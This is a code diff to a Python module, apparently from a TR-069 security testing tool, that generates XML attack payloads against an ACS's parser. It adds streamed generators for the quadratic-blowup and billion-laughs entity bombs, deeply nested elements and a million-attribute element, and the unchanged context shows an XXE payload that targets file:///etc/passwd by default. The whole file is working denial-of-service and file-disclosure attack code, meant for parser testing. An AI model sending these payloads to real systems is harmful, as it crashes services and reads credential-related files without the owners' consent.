@@ -1,6 +1,49 @@
+"""
+Payloads that test the XML parser of an ACS.
+
+Oversized payloads are generated as streams: iterables of bytes chunks that are produced on demand,
+so that generating them needs constant memory regardless of the payload's size.
+Streams can be passed to :py:meth:`tr069.Client.request`, which sends them with chunked transfer encoding::
+
+    client.request(xml_attacks.nested_elements(10_000_000))
+"""
+from typing import Iterable, Iterator
+
 from .data import soap
 from .data.rpcs import rpc_methods
 
+# The approximate size of the chunks of a stream, in bytes.
+CHUNK_SIZE = 64 * 1024
+
+Stream = Iterator[bytes]
+
+
+def _repeat(piece: str, count: int, chunk_size: int = CHUNK_SIZE) -> Stream:
+    """Stream piece * count. All full chunks are the same object."""
+    data = piece.encode()
+    per_chunk = max(1, chunk_size // len(data))
+    full, rest = divmod(count, per_chunk)
+    chunk = data * per_chunk
+    for _ in range(full):
+        yield chunk
+    if rest:
+        yield data * rest
+
+
+def _join(pieces: Iterable[str], chunk_size: int = CHUNK_SIZE) -> Stream:
+    """Stream the concatenation of pieces."""
+    buffer = []
+    size = 0
+    for piece in pieces:
+        buffer.append(piece)
+        size += len(piece)
+        if size >= chunk_size:
+            yield "".join(buffer).encode()
+            buffer.clear()
+            size = 0
+    if buffer:
+        yield "".join(buffer).encode()
+
 
 def xxe(file: str = "file:///etc/passwd", xml: str = None):
     """
@@ -18,10 +61,52 @@ def xxe(file: str = "file:///etc/passwd", xml: str = None):
 def quadratic_blowup(repetitions=1_000, entity_size=100_000):
     """
     Quadratic Blowup DoS.
+    See :py:func:`quadratic_blowup_stream` for large sizes.
+    """
+    return b"".join(quadratic_blowup_stream(repetitions, entity_size)).decode()
+
+
+def quadratic_blowup_stream(repetitions: int = 1_000, entity_size: int = 100_000) -> Stream:
+    """
+    Quadratic Blowup DoS as a stream: one large entity, referenced many times.
+    """
+    yield b'<!DOCTYPE bomb [\n    <!ENTITY a "'
+    yield from _repeat("B", entity_size)
+    yield b'">\n]>\n<bomb>'
+    yield from _repeat("&a;", repetitions)
+    yield b"</bomb>"
+
+
+def billion_laughs(depth: int = 10, width: int = 10) -> Stream:
+    """
+    Billion Laughs DoS: nested entities that expand to width ** depth copies of the innermost one.
+    """
+    yield b'<!DOCTYPE lolz [\n    <!ENTITY lol0 "lol">\n'
+    yield from _join(
+        f'    <!ENTITY lol{i} "{f"&lol{i - 1};" * width}">\n'
+        for i in range(1, depth + 1)
+    )
+    yield f"]>\n<lolz>&lol{depth};</lolz>".encode()
+
+
+def nested_elements(depth: int = 1_000_000, name: str = "a") -> Stream:
+    """
+    Deeply nested elements, which exhaust the stack of recursive parsers.
+    """
+    yield from _repeat(f"<{name}>", depth)
+    yield from _repeat(f"</{name}>", depth)
+
+
+def many_attributes(count: int = 1_000_000, name: str = "a") -> Stream:
+    """
+    An element with a huge number of distinct attributes,
+    which exhausts parsers that check attribute uniqueness in quadratic time.
     """
-    return f"""
-<!DOCTYPE bomb [
-    <!ENTITY a "{'B'* entity_size}">
-]>
-<bomb>{'&a;' * repetitions}</bomb>
-""".strip()
+    yield f"<{name}".encode()
+    # Each chunk is built from a range of attributes at once, which is much faster than joining them one by one:
+    # ' a0="0" a1="1"' are the numbers joined pairwise by '="', and the pairs joined by '" a'.
+    per_chunk = max(1, CHUNK_SIZE // len(f' a{count}="{count}"'))
+    for start in range(0, count, per_chunk):
+        numbers = list(map(str, range(start, min(start + per_chunk, count))))
+        yield (' a' + '" a'.join(map('="'.join, zip(numbers, numbers))) + '"').encode()
+    yield b"/>"